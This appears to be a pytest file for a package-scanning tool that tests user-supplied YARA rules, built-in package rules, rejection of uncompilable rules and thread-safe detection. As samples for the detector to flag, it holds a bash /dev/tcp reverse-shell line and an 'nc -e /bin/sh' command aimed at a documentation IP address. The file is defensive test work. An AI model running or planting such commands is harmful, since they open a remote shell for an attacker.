"""Patterns over members: our own for packages, the user's for everything, and rules that do not compile are said to be so."""

from __future__ import annotations

import pytest

from tests.corpus.packages import wheel
from weighbridge.detect.patterns import read_patterns
from weighbridge.inspection import Options, scan
from weighbridge.schema import Severity, UsageError

RULE = 'rule marker { meta: severity = "medium" description = "the marker of a test" strings: $a = "find-me-here" condition: $a }'


@pytest.fixture
def rules(tmp_path_factory):
    path = tmp_path_factory.mktemp("rules") / "own.yar"
    path.write_text(RULE)
    return read_patterns([str(path)])


def test_rules_of_the_user_are_held_against_every_member(lay, rules):
    folder = lay({"config.json": b'{"a": "find-me-here"}', "b.txt": b"nothing"})
    (found,) = [one for one in scan([str(folder)], options=Options(patterns=rules)).findings if one.rule == "PKG-032"]
    assert (found.severity, found.location.path[0].endswith("config.json")) == (Severity.MEDIUM, True)
    assert (found.evidence[0].offset, found.evidence[0].text) == (7, "find-me-here")
    assert "the marker of a test (marker)" in found.message


def test_our_own_rules_are_meant_for_packages(lay):
    shell = {"a.sh": b"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n"}
    assert "PKG-032" not in {one.rule for one in scan([str(lay(shell))]).findings}
    packaged = wheel({"ranker/__init__.py": "", "ranker/a.sh": shell["a.sh"].decode()})
    assert "PKG-032" in {one.rule for one in scan([str(lay(packaged))]).findings}


@pytest.mark.parametrize("text", ["rule {", "import 'x'", "\xff"])
def test_rules_that_do_not_compile_are_refused_before_anything_is_read(tmp_path, text):
    (tmp_path / "bad.yar").write_text(text)
    with pytest.raises(UsageError, match=r"bad\.yar"):
        read_patterns([str(tmp_path / "bad.yar")])
    with pytest.raises(UsageError):
        read_patterns([str(tmp_path / "none.yar")])


def test_several_threads_may_look_at_once():
    from concurrent.futures import ThreadPoolExecutor

    from weighbridge.detect.patterns import detect_patterns
    from weighbridge.schema import Location

    def look(number):
        text = b"nc -e /bin/sh 198.51.100.7 4444" if number % 2 else b"x"
        return len(detect_patterns(Location(path=("a",)), text, (), packaged=True)[0])

    with ThreadPoolExecutor(4) as several:
        assert list(several.map(look, range(40))) == [0, 1] * 20
